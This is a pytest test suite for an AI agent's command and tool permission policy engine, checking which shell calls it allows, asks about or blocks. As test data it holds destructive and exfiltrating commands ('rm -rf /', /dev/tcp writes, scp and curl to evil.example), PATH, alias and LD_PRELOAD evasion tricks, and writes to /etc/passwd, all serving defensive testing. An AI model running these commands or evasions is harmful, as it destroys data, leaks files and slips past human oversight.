import re
import time
from collections.abc import Collection, Iterator
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent_fabric.domain.policy.calls import ProposedCall
from agent_fabric.domain.policy.engine import RulePolicy
from agent_fabric.domain.policy.globs import domain_fits, path_fits
from agent_fabric.domain.policy.profiles import Profile
from agent_fabric.domain.policy.rules import CommandPattern, Rule
from agent_fabric.domain.policy.verdicts import Ruling, Verdict
from agent_fabric.domain.tools.specs import Effect
from effort import examples

STRICTNESS = {Verdict.ALLOW: 0, Verdict.ASK: 1, Verdict.BLOCK: 2}


def rule(verdict: Verdict, *commands: str, rule_id: str = "mine", **conditions: Collection[object]) -> Rule:
    patterns = tuple(CommandPattern(text=text) for text in commands)
    return Rule(id=rule_id, verdict=verdict, commands=patterns, **conditions)  # type: ignore[arg-type]  # by name


def shell(command: str, *, level: str = "A", agent: str = "", node: str = "") -> ProposedCall:
    return ProposedCall(
        tool="shell",
        args={"command": command},
        effect=Effect.CHANGES_WORKSPACE,
        command=command,
        sandbox=level,
        agent=agent,
        node=node,
    )


def tool(
    name: str, *, effect: Effect = Effect.READS, paths: tuple[str, ...] = (), urls: tuple[str, ...] = ()
) -> ProposedCall:
    return ProposedCall(tool=name, args={}, effect=effect, paths=paths, urls=urls, sandbox="A")


def judge(call: ProposedCall, *rules: Rule, profile: Profile = Profile.OPEN) -> Ruling:
    return RulePolicy(profile=profile, rules=rules).judge(call)


@pytest.mark.proves("AU-12")
@pytest.mark.parametrize("profile", Profile)
def test_a_run_that_nobody_watches_has_no_shell_where_there_is_no_box(profile: Profile) -> None:
    allowed = rule(Verdict.ALLOW, "ls")
    without, within = (replace(shell("ls", level=level), by_itself=True) for level in ("C", "A"))
    ruling = judge(without, allowed, profile=profile)
    assert (ruling.verdict, ruling.rule) == (Verdict.BLOCK, "unattended_shell")
    assert judge(within, allowed, profile=profile).verdict is not Verdict.BLOCK
    assert judge(shell("ls", level="C"), allowed, profile=profile).verdict is not Verdict.BLOCK


@pytest.mark.proves("FC-030")
@pytest.mark.parametrize(
    ("pattern", "command", "verdict"),
    [
        ("curl", "curl x", Verdict.BLOCK),
        ("curl", "/usr/bin/curl x", Verdict.BLOCK),
        ("curl", "echo curl", Verdict.ALLOW),
        ("curl", "env nice timeout 5 curl x", Verdict.BLOCK),
        ("curl", "$x", Verdict.ASK),
        ("git push", "git push", Verdict.BLOCK),
        ("git push", "git -C x -c user.name=y push --force", Verdict.BLOCK),
        ("git push", "git status push", Verdict.ALLOW),
        ("git push", "git $x", Verdict.ASK),
        ("git push", 'git -C "$x" status', Verdict.ALLOW),
        ("terraform apply", "terraform --strange value apply", Verdict.BLOCK),
        ("pip install", "python3 -m pip install x", Verdict.BLOCK),
        ("rm -r", "rm -fr x", Verdict.BLOCK),
        ("rm -r", "rm -f x", Verdict.ALLOW),
        ("rm --recursive", "rm --rec x", Verdict.BLOCK),
        ("mkf*", "mkfifo x", Verdict.BLOCK),
    ],
)
def test_a_rule_about_commands_fits_by_meaning(pattern: str, command: str, verdict: Verdict) -> None:
    assert judge(shell(command), rule(Verdict.BLOCK, pattern)).verdict is verdict


@pytest.mark.parametrize(
    ("pattern", "command", "fits"),
    [
        ("curl", "curl x", True),
        ("git push", "git push origin", True),
        ("git push", "git -c core.sshCommand=x push", False),
        ("git push", "git -C elsewhere push", False),
        ("git push", "git $x", False),
        ("curl", "curl x; wget y", False),
        ("curl", "curl $(wget y)", False),
    ],
)
def test_a_rule_that_allows_is_content_with_nothing_less_than_all_of_it(pattern: str, command: str, fits: bool) -> None:
    verdict = judge(shell(command), rule(Verdict.ALLOW, pattern), profile=Profile.WORKSPACE).verdict
    assert (verdict is Verdict.ALLOW) is fits


ALLOWED = "deployer plan"
"""Of a program that asks without a rule."""


def uncovered() -> Iterator[str]:
    """Yield calls that begin as a rule says, and are more than it says."""
    for folder in (".", "bin", "./bin", "..", "/tmp/x", "~", "$PWD", ".venv/bin", "/home/me/project"):
        yield f"{folder}/deployer plan"
    for path in (".", "$PWD", "$PWD/bin:$PATH", "bin:$PATH", "node_modules/.bin:$PATH", "/tmp/x:$PATH", '"$x"'):
        yield f"PATH={path} deployer plan"
        yield f"export PATH={path}; deployer plan"
        yield f"export PATH={path} && deployer plan"
        yield f"env PATH={path} deployer plan"
        yield f"declare -x PATH={path}; bash -c 'deployer plan'"
    for variable in ("DEPLOYER_ARGS=-out=x", "LD_PRELOAD=./x", "HOME=.", "DEPLOYER_CONFIG=./evil"):
        yield f"{variable} deployer plan"
        yield f"export {variable}; deployer plan"
    for option in (
        "-o x",
        "-ox",
        "--output x",
        "--output=x",
        "-out=x",
        "--log-file=x",
        "-c x",
        "--exec=./x",
        "-f",
        "+x",
    ):
        yield f"deployer plan {option}"
        yield f"deployer {option} plan"
        yield f"deployer plan a {option}"
        yield f"timeout 5 deployer plan {option}"
    for option in ("-out=x", "-o", "--output=x"):
        yield f"deployer plan -- {option}"
        yield f"deployer plan a -- b {option}"
    for variable in ("DEPLOYER_ARGS", "PATH", "DEPLOYER_CLI_CONFIG"):
        yield f"for {variable} in -out=x; do deployer plan; done"
        yield f"for {variable} in -out=x\ndo deployer plan; done"
        yield f"for (({variable}=1; {variable} < 2; {variable}++)); do deployer plan; done"
        yield f"select {variable} in x; do deployer plan; done"
        yield f"(({variable} = 1)); deployer plan"
        yield f": ${{{variable}:=-out=x}}; deployer plan"
        yield f": ${{{variable}=-out=x}}; deployer plan"
        yield f"exec {{{variable}}}> x; deployer plan"
        yield f"read {variable} <<< x; deployer plan"
        yield f"printf -v {variable} x; deployer plan"
    for word in ("alias deployer=./other", "alias x=y", "hash -p ./other deployer", "enable -f ./x deployer"):
        yield f"{word}; deployer plan"
        yield f"{word}\ndeployer plan"
    for argument in ("$x", '"$x"', "$(cat x)", "`x`", "${x:-y}", "*.tf", "~/x", "$'\\x2d'o$x", "{a,$x}", "<(cat x)"):
        yield f"deployer plan {argument}"
    yield "deployer $x"
    yield "$x plan"
    yield "deployer"
    yield "deployer planning"
    yield "deployer apply plan"
    yield "deployer plan > $x"
    yield "xargs deployer plan"
    yield "deployer plan && other"
    yield "deployer plan | other"
    yield "other $(deployer plan)"
    yield "deployer() { other; }; deployer plan; other"


def redefined() -> Iterator[str]:
    """Yield lines in which the program that a rule names is a function."""
    for body in ("{ ls; }", "( ls; )", "if true; then ls; fi"):
        for line in ("deployer plan", "bash -c 'deployer plan'", "(deployer plan)", "true && deployer plan"):
            for definition in (f"deployer() {body}", f"function deployer {body}", f"true && deployer() {body}"):
                yield f"{definition}; {line}"
                yield f"({definition}; {line})"
                yield f"{definition}; export -f deployer; {line}; unset x"
                yield f'bash -c "{definition}; deployer plan"'


@pytest.mark.parametrize("command", list(redefined()))
def test_a_rule_that_allows_a_program_does_not_cover_a_function_of_that_name(command: str) -> None:
    policy = RulePolicy(profile=Profile.WORKSPACE, rules=(rule(Verdict.ALLOW, ALLOWED),))
    assert all(ruling.rule != "mine" for judgement in policy.explain(shell(command)) for ruling in judgement.said)


@pytest.mark.parametrize("command", list(uncovered()))
def test_a_rule_that_allows_covers_nothing_that_it_does_not_name(command: str) -> None:
    assert judge(shell(command), rule(Verdict.ALLOW, ALLOWED), profile=Profile.NODE).verdict is not Verdict.ALLOW


@pytest.mark.parametrize(
    ("pattern", "command"),
    [
        (ALLOWED, "deployer plan"),
        (ALLOWED, "/usr/bin/deployer plan"),
        (ALLOWED, "deployer plan stage-1 'a b'"),
        (ALLOWED, "deployer plan --help"),
        (ALLOWED, "deployer plan -- x"),
        (ALLOWED, "for f in a b; do deployer plan a; done"),
        (ALLOWED, "deployer plan > out/x 2>&1"),
        (ALLOWED, "deployer plan 2> /dev/null >&2"),
        (ALLOWED, "deployer plan > /tmp/x"),
        (ALLOWED, "LC_ALL=C deployer plan"),
        (ALLOWED, "timeout 5 deployer plan && deployer plan b"),
        (ALLOWED, "cd src && deployer plan"),
        ("deployer plan -out=x", "deployer plan -out=x"),
        ("deployer plan *", "deployer plan -out=x a"),
        ("deployer *", "deployer -v plan"),
        ("./deployer plan", "./deployer plan"),
        ("bin/*", "bin/deployer plan"),
        ("*", "deployer -x"),
    ],
)
def test_a_rule_that_allows_covers_all_that_it_names(pattern: str, command: str) -> None:
    assert judge(shell(command), rule(Verdict.ALLOW, pattern), profile=Profile.WORKSPACE).verdict is Verdict.ALLOW


def writes() -> Iterator[str]:
    """Yield allowed programs in lines that write a file of the system, by every operator and around the program."""
    for operator in (">", ">>", ">|", "&>", "&>>", ">&", "<>", "2>", "3>&"):
        for target in ("/etc/passwd", "~/.bashrc", "../x", '"$x"', "a/../../x"):
            yield f"deployer plan {operator} {target}"
            yield f"{{ deployer plan; }} {operator} {target}"
            yield f"timeout 5 deployer plan {operator} {target}"
            yield f"exec {operator} {target}; deployer plan"


@pytest.mark.parametrize("command", list(writes()))
def test_a_rule_that_allows_a_program_lets_it_write_nothing_outside_of_the_workspace(command: str) -> None:
    verdict = judge(shell(command), rule(Verdict.ALLOW, ALLOWED), profile=Profile.WORKSPACE).verdict
    assert verdict is not Verdict.ALLOW


def test_options_that_only_read_need_not_be_named_by_a_rule_that_allows() -> None:
    log = rule(Verdict.ALLOW, "git log")
    assert judge(shell("git log --oneline -5"), log, profile=Profile.NODE).verdict is Verdict.ALLOW
    assert judge(shell("git log --output=x"), log, profile=Profile.NODE).verdict is Verdict.ASK


def test_a_star_at_the_end_changes_nothing_for_rules_that_block() -> None:
    for command in ("deployer plan", "deployer plan x", "deployer -v plan --x"):
        assert judge(shell(command), rule(Verdict.BLOCK, "deployer plan *")).verdict is Verdict.BLOCK


def test_a_rule_that_allows_answers_what_would_only_ask_by_default() -> None:
    assert judge(shell("git push"), profile=Profile.WORKSPACE).verdict is Verdict.ASK
    assert judge(shell("git push"), rule(Verdict.ALLOW, "git push"), profile=Profile.WORKSPACE).verdict is Verdict.ALLOW
    assert judge(shell("systemctl restart x"), profile=Profile.NODE).verdict is Verdict.ASK
    assert (
        judge(shell("systemctl restart x"), rule(Verdict.ALLOW, "systemctl restart"), profile=Profile.NODE).verdict
        is Verdict.ALLOW
    )


@pytest.mark.parametrize("command", ["rm -rf /", "sudo curl", "/opt/curl"])
def test_no_rule_allows_what_is_built_in_as_never(command: str) -> None:
    everything = rule(Verdict.ALLOW, "*", "sudo", "rm", "/opt/curl")
    assert judge(shell(command), everything, profile=Profile.WORKSPACE).verdict is Verdict.BLOCK


@pytest.mark.proves("A33-085")
@pytest.mark.parametrize(
    ("pattern", "path", "fits"),
    [
        ("*.env", ".env", True),
        ("*.env", "a/b/prod.env", True),
        ("secrets/", "secrets/a/b", True),
        ("secrets/", "./x/../secrets/a", True),
        ("docs/**", "docs/a/b.md", True),
        ("docs/*", "docs/a/b.md", False),
        ("docs/**/x.md", "docs/x.md", True),
        ("/etc/**", "/etc/passwd", True),
        ("/etc/**", "etc/passwd", False),
        ("docs", "src/docs", True),
        ("**", "anything/at/all", True),
        ("a/**/b/**/c", "a/x/b/y/z/c", True),
        ("a/**/b/**/c", "a/x/y/z/c", False),
    ],
)
def test_paths_are_patterns(pattern: str, path: str, fits: bool) -> None:
    assert path_fits(pattern, path) is fits


def test_a_hostile_pattern_costs_no_time() -> None:
    assert not path_fits("/".join(["**", "a*"] * 60) + "/b", "/".join(["aaaa"] * 300))


@pytest.mark.proves("A33-085")
@pytest.mark.parametrize(
    ("pattern", "host", "fits"),
    [
        ("example.org", "example.org", True),
        ("example.org", "a.b.example.org", True),
        ("example.org", "EXAMPLE.org.", True),
        ("example.org", "notexample.org", False),
        ("example.org", "example.org.evil.net", False),
        ("*.example.org", "example.org", False),
        ("*.example.org", "a.example.org", True),
    ],
)
def test_a_domain_stands_for_all_below_it(pattern: str, host: str, fits: bool) -> None:
    assert domain_fits(pattern, host) is fits


@pytest.mark.proves("A33-084", "A33-085")
def test_rules_about_paths_domains_tools_agents_and_nodes() -> None:
    paths = rule(Verdict.BLOCK, paths=("secrets/",))
    assert judge(tool("read_file", paths=("a/../secrets/x",)), paths).verdict is Verdict.BLOCK
    assert judge(tool("read_file", paths=("a",)), paths).verdict is Verdict.ALLOW
    assert judge(shell("cat secrets/x"), paths).verdict is Verdict.BLOCK
    assert judge(shell("echo x > secrets/y"), paths).verdict is Verdict.BLOCK
    assert judge(shell("tar --file=secrets/y x"), paths).verdict is Verdict.BLOCK

    domains = rule(Verdict.BLOCK, domains=("evil.example",))
    assert judge(tool("fetch_url", urls=("https://a.evil.example/x",)), domains).verdict is Verdict.BLOCK
    assert judge(tool("fetch_url", urls=("https://good.example/evil.example",)), domains).verdict is Verdict.ALLOW
    assert judge(shell("curl https://evil.example/"), domains).verdict is Verdict.BLOCK
    assert judge(shell("scp a me@evil.example:b"), domains).verdict is Verdict.BLOCK

    servers = rule(Verdict.ASK, tools=("mcp__files__*",))
    assert judge(tool("mcp__files__write"), servers).verdict is Verdict.ASK
    assert judge(tool("mcp__other__write"), servers).verdict is Verdict.ALLOW

    agents = rule(Verdict.BLOCK, "curl", agents=("intern*",))
    assert judge(shell("curl x", agent="intern-1"), agents).verdict is Verdict.BLOCK
    assert judge(shell("curl x", agent="boss"), agents).verdict is Verdict.ALLOW

    nodes = rule(Verdict.BLOCK, "ls", nodes=("prod-*",))
    assert judge(shell("ls", node="prod-1"), nodes).verdict is Verdict.BLOCK
    assert judge(shell("ls"), nodes).verdict is Verdict.ALLOW


def test_an_allowed_folder_does_not_allow_every_program_to_work_in_it() -> None:
    docs = rule(Verdict.ALLOW, paths=("docs/**",))
    assert judge(shell("curl docs/x"), docs, profile=Profile.NODE).verdict is Verdict.ASK
    write = tool("write_file", effect=Effect.IDEMPOTENT, paths=("docs/x",))
    assert judge(write, docs, profile=Profile.NODE).verdict is Verdict.ALLOW
    elsewhere = tool("write_file", effect=Effect.IDEMPOTENT, paths=("docs/x", "src/y"))
    assert judge(elsewhere, docs, profile=Profile.NODE).verdict is Verdict.ASK


@pytest.mark.proves("FC-031")
def test_the_open_profile_runs_everything_but_catastrophes_and_what_it_cannot_read() -> None:
    for command in ("curl x", "make test", "rm -rf /var/lib/thing", "sudo apt install x"):
        assert judge(shell(command)).verdict is Verdict.ALLOW, command
    for command in ("rm -rf /", "rm -fr /*", "rm -r --no-preserve-root /", "rm -rf ~/", "sudo rm -rf /etc"):
        assert judge(shell(command)).verdict is Verdict.BLOCK, command
    for command in ("$x", "ls 'x", "hash -p /bin/rm ls"):
        assert judge(shell(command)).verdict is Verdict.ASK, command


PUSHES = (
    "git push",
    "git -C x push origin main",
    "true && git push",
    "make deploy",
    "make test deploy",
    "npm run publish",
    "npm publish",
    "docker build --push .",
    "./release.sh",
    "ssh host",
    "rsync -a dist host:/srv",
    "aws s3 sync dist s3://x",
    "echo x > /dev/tcp/host/80",
)


@pytest.mark.proves("C17", "AF-125")
@pytest.mark.parametrize("profile", Profile)
@pytest.mark.parametrize("command", PUSHES)
def test_push_and_deploy_ask_in_every_profile_and_whatever_a_broad_rule_allows(profile: Profile, command: str) -> None:
    assert judge(shell(command), profile=profile).verdict is Verdict.ASK
    everything = CommandPattern(text=".*", expression=lambda _: True, whole=lambda _: True)
    broad = (
        rule(Verdict.ALLOW, "*"),
        rule(Verdict.ALLOW, "make", "make *", "git *", "npm *", "docker *", "./*", "rsync *", "s*"),
        rule(Verdict.ALLOW, tools=("shell",)),
        rule(Verdict.ALLOW, effects=frozenset({Effect.CHANGES_WORKSPACE})),
        Rule(id="mine", verdict=Verdict.ALLOW, commands=(everything,)),
    )
    for each in broad:
        assert judge(shell(command), each, profile=profile).verdict is Verdict.ASK, each


@pytest.mark.proves("C17")
@pytest.mark.parametrize("profile", Profile)
@pytest.mark.parametrize(
    ("pattern", "command", "verdict"),
    [
        ("git push", "git push origin main", Verdict.ALLOW),
        ("git push *", "git push --force", Verdict.ALLOW),
        ("git subtree push *", "git subtree push --prefix x origin y", Verdict.ALLOW),
        ("git subtree *", "git subtree push --prefix x origin y", Verdict.ASK),
        ("make deploy", "make deploy", Verdict.ALLOW),
        ("make deploy", "make deploy publish", Verdict.ASK),
        ("make deploy publish", "make deploy publish", Verdict.ALLOW),
        ("make deploy", "make ci/deploy", Verdict.ASK),
        ("npm run deploy", "npm run deploy", Verdict.ALLOW),
        ("aws *", "aws s3 sync dist s3://x", Verdict.ALLOW),
        ("aw*", "aws s3 sync dist s3://x", Verdict.ASK),
        ("kubectl apply *", "kubectl apply -f x", Verdict.ALLOW),
        ("kubectl apply *", "kubectl delete -f x", Verdict.ASK),
    ],
)
def test_a_rule_that_names_a_push_or_a_deployment_allows_just_that(
    profile: Profile, pattern: str, command: str, verdict: Verdict
) -> None:
    assert judge(shell(command), rule(Verdict.ALLOW, pattern), profile=profile).verdict is verdict


@pytest.mark.proves("C17")
@pytest.mark.parametrize(
    ("expression", "verdict"),
    [
        ("make (test|deploy)", Verdict.ALLOW),
        (r"make\s+deploy", Verdict.ALLOW),
        (r"make \w+", Verdict.ASK),
        ("make [a-z]*", Verdict.ASK),
        ("make (redeploy|[a-z]+)", Verdict.ASK),
        ("make (?!deploy).*|.*", Verdict.ASK),
    ],
)
def test_an_expression_names_a_deployment_only_by_its_word(expression: str, verdict: Verdict) -> None:
    compiled = re.compile(expression)
    pattern = CommandPattern(
        text=expression,
        expression=lambda text: bool(compiled.search(text)),
        whole=lambda text: bool(compiled.fullmatch(text)),
    )
    allowing = Rule(id="mine", verdict=Verdict.ALLOW, commands=(pattern,))
    assert judge(shell("make deploy"), allowing).verdict is verdict


def test_another_machine_is_never_treated_as_a_workspace() -> None:
    assert judge(shell("python3 x.py", node="web-1"), profile=Profile.WORKSPACE).verdict is Verdict.ASK
    assert judge(shell("df -h", node="web-1"), profile=Profile.WORKSPACE).verdict is Verdict.ALLOW


@pytest.mark.parametrize("effect", [Effect.READS, Effect.IDEMPOTENT, Effect.CHANGES_WORKSPACE])
def test_tools_of_the_workspace_do_not_ask(effect: Effect) -> None:
    assert judge(tool("x", effect=effect), profile=Profile.WORKSPACE).verdict is Verdict.ALLOW


def test_a_tool_whose_effect_leaves_the_box_asks() -> None:
    sends = tool("send_message", effect=Effect.LEAVES_SANDBOX)
    ruling = judge(sends, profile=Profile.WORKSPACE)
    assert (ruling.verdict, ruling.rule, ruling.alike) == (
        Verdict.ASK,
        "leaves_sandbox",
        "every `send_message` with any arguments",
    )


def test_a_variable_that_makes_others_run_something_is_not_covered_by_a_rule_that_allows() -> None:
    log = rule(Verdict.ALLOW, "git log")
    for profile in (Profile.WORKSPACE, Profile.NODE):
        ruling = judge(shell("GIT_PAGER=./x git log"), log, profile=profile)
        assert (ruling.verdict, ruling.rule) == (Verdict.ASK, "poisoned_environment")


def test_on_a_node_an_allowed_program_may_not_write_into_any_file() -> None:
    cat = rule(Verdict.ALLOW, "tee", "cat")
    assert judge(shell("cat a | tee b"), cat, profile=Profile.NODE).verdict is Verdict.ALLOW
    assert judge(shell("cat a > b"), cat, profile=Profile.NODE).verdict is Verdict.ASK
    logs = rule(Verdict.ALLOW, "cat", rule_id="logs", paths=("logs/**",))
    assert judge(shell("cat logs/a > logs/b"), logs, profile=Profile.NODE).verdict is Verdict.ALLOW
    assert judge(shell("cat logs/a > b"), logs, profile=Profile.NODE).verdict is Verdict.ASK


def test_what_is_said_stays_short_however_long_the_command_is() -> None:
    for command in ("curl " + "x" * 90_000, "'" + "x" * 90_000):
        ruling = judge(shell(command), profile=Profile.WORKSPACE)
        assert ruling.verdict is Verdict.ASK
        assert len(ruling.reason) + len(ruling.subject) < 2_000


@pytest.mark.slow
@pytest.mark.parametrize(
    "command",
    [
        "env " * 24_000 + "ls",
        "a;" * 49_000,
        "$(" * 30_000,
        "bash -c '" * 9_000,
        "find . -exec " * 7_000,
        "git bisect run " * 6_000,
        "x" * 99_999,
        "{" * 90_000,
        "'" + "[" * 90_000 + "'",
        "test -v '" + "[$" * 40_000 + "'",
        "x='" + "[" * 90_000 + "'",
        "rm " + "../" * 30_000,
        "d=" + "a" * 90_000 + "; rm -rf ${d#*a*a*a*b}",
        "d=" + "a" * 250 + ";" + "rm -rf ${d##*a*a*a*b};" * 900,
        "ed <<E\n" + "\n" * 90_000 + "E",
        "ed <<E\n" + "+:|1" * 20_000 + "\nE",
        "gdb <<E\n" + "pipe x\n" * 12_000 + "E",
        "sqlite3 <<E\n" + " .o x\n" * 12_000 + "E",
        "python3 -c '" + 'rmtree "' * 10_000 + "'",
        "((" * 25 + "A" * 90_000,
        "for " * 20_000,
        "cat > /dev/x;" * 900,
        "cat <<A\n" * 9_000,
        "a" * 200_000,
    ],
)
def test_a_hostile_line_is_judged_in_time(command: str) -> None:
    started = time.process_time()
    assert judge(shell(command), profile=Profile.WORKSPACE).verdict in Verdict
    assert time.process_time() - started < 15


COMMANDS = st.sampled_from(
    ["ls", "curl x", "git push", "git status", "ls | curl x", "rm -rf /", "$x", "echo 'x", "cat a > b", "make deploy"]
)
PATTERNS = st.sampled_from(["ls", "curl", "git push", "git", "rm -r", "cat", "make *", "*"])
RULES = st.lists(
    st.builds(
        lambda verdict, pattern, number: rule(verdict, pattern, rule_id=f"r{number}"),
        st.sampled_from(list(Verdict)),
        PATTERNS,
        st.integers(0, 99),
    ),
    max_size=5,
)
PROFILES = st.sampled_from(list(Profile))
LEVELS = st.sampled_from(["A", "C"])


@settings(max_examples=examples(300), deadline=None)
@given(COMMANDS, RULES, PATTERNS, st.sampled_from([Verdict.ASK, Verdict.BLOCK]), PROFILES, LEVELS)
def test_a_further_rule_that_forbids_or_asks_never_loosens(
    command: str, rules: list[Rule], pattern: str, verdict: Verdict, profile: Profile, level: str
) -> None:
    call = shell(command, level=level)
    before = judge(call, *rules, profile=profile).verdict
    after = judge(call, *rules, rule(verdict, pattern, rule_id="further"), profile=profile).verdict
    assert STRICTNESS[after] >= STRICTNESS[before]


@settings(max_examples=examples(300), deadline=None)
@given(COMMANDS, RULES, PROFILES, st.randoms())
def test_the_order_of_rules_does_not_matter(command: str, rules: list[Rule], profile: Profile, random: object) -> None:
    shuffled = list(rules)
    random.shuffle(shuffled)  # type: ignore[attr-defined]  # hypothesis gives a random.Random
    call = shell(command)
    assert judge(call, *rules, profile=profile).verdict is judge(call, *shuffled, profile=profile).verdict


@settings(max_examples=examples(300), deadline=None)
@given(COMMANDS, RULES, PROFILES)
def test_a_line_is_never_judged_milder_than_any_of_its_commands(
    command: str, rules: list[Rule], profile: Profile
) -> None:
    policy = RulePolicy(profile=profile, rules=tuple(rules))
    decided = policy.judge(shell(command)).verdict
    for part in policy.explain(shell(command)):
        assert STRICTNESS[decided] >= STRICTNESS[part.decided.verdict]


PROGRAMS = st.sampled_from(
    [
        "env {}",
        "env A=1 {}",
        "env -iu HOME {}",
        "nice -n 5 {}",
        "timeout -k 1 5 {}",
        "nohup {}",
        "stdbuf -oL {}",
        "setsid {}",
        "flock lock {}",
        "xargs -rn 1 {}",
        "find . -exec {} ;",
        "ionice -c 3 {}",
        "taskset 1 {}",
    ]
)
SYNTAX = st.sampled_from(
    [
        "{}",
        "echo y | xargs {}",
        "sh -c '{}'",
        "bash -ec '{}'",
        "command {}",
        "exec {}",
        "eval '{}'",
        "time {}",
        "( {} )",
        "{{ {}; }}",
        "x=$({})",
        "if {}; then :; fi",
        "true && {}",
        "! {}",
        "f() {{ {}; }}; f",
        "cat <<EOF\n$({})\nEOF",
        "trap '{}' EXIT",
    ]
)
PLAIN = st.sampled_from(["curl x", "git push", "rm -rf /", "ssh host", "sudo ls", "npm publish", "kubectl apply -f x"])


@settings(max_examples=examples(400), deadline=None)
@given(PLAIN, st.lists(PROGRAMS, max_size=3), SYNTAX, PROFILES, LEVELS)
def test_another_program_around_a_command_does_not_loosen(
    command: str, programs: list[str], syntax: str, profile: Profile, level: str
) -> None:
    wrapped = command
    for program in programs:
        wrapped = program.format(wrapped)
    wrapped = syntax.format(wrapped.replace(" ;", " \\;"))
    rules = (rule(Verdict.BLOCK, "curl"), rule(Verdict.ASK, "git push", rule_id="push"))
    bare = judge(shell(command, level=level), *rules, profile=profile).verdict
    around = judge(shell(wrapped, level=level), *rules, profile=profile).verdict
    assert STRICTNESS[around] >= min(STRICTNESS[bare], 1), wrapped


@pytest.mark.parametrize(
    ("written", "warning"),
    [
        (rule(Verdict.ALLOW), "allows every call without a question"),
        (rule(Verdict.ALLOW, tools=("*",)), "allows every call without a question"),
        (rule(Verdict.ALLOW, agents=("helper",)), "allows every call without a question"),
        (rule(Verdict.ALLOW, "*"), "allows every command without a question"),
        (rule(Verdict.ALLOW, "ls", "* --force *"), "allows every command without a question"),
        (rule(Verdict.ALLOW, domains=("*",)), "allows every host without a question"),
        (rule(Verdict.ALLOW, tools=("write_file",), paths=("/**",)), "allows every path of the machine"),
        (rule(Verdict.ALLOW, "ss *"), ""),
        (rule(Verdict.ALLOW, "terraform plan *"), ""),
        (rule(Verdict.ALLOW, tools=("mcp__files__*",)), ""),
        (rule(Verdict.ALLOW, domains=("*.example.org",)), ""),
        (rule(Verdict.ALLOW, tools=("read_file",), paths=("**",)), ""),
        (Rule(id="reads", verdict=Verdict.ALLOW, effects=frozenset({Effect.READS})), ""),
        (rule(Verdict.ASK, "*"), ""),
        (rule(Verdict.BLOCK), ""),
    ],
    ids=str,
)
def test_a_rule_that_allows_without_an_end_carries_a_warning(written: Rule, warning: str) -> None:
    assert written.warning.startswith(warning)
    assert bool(written.warning) == bool(warning)


@pytest.mark.parametrize(
    ("text", "is_everything"),
    [
        (".*", True),
        ("^.*$", True),
        (".+", True),
        (r"[\s\S]*", True),
        ("(?:.*)", True),
        ("git .*", False),
        (r"\w+", False),
    ],
)
def test_an_expression_that_leaves_no_command_out_is_known(text: str, is_everything: bool) -> None:
    assert CommandPattern(text=text, expression=lambda _: True).is_everything is is_everything
